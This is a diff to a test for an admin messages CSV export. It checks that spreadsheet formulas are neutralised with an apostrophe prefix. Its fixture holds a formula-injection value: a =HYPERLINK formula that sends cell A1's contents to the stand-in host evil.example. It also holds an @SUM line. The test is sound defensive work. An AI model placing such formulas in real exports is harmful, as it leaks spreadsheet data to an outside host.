@@ -226,7 +226,8 @@ describe('GET /api/admin/messages.csv', () => {
       email: 'csv@example.com',
       phone: "'+90 532 123 45 67",
       subject: `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
-      message: 'First line\r\nSecond line, with "quotes"\n@SUM(1+1)',
+      // A line of its own is a cell of its own where the quote is not read: it gets the apostrophe too.
+      message: `First line\r\nSecond line, with "quotes"\n'@SUM(1+1)`,
       order_number: '',
       language: 'tr',
       admin_note: '',
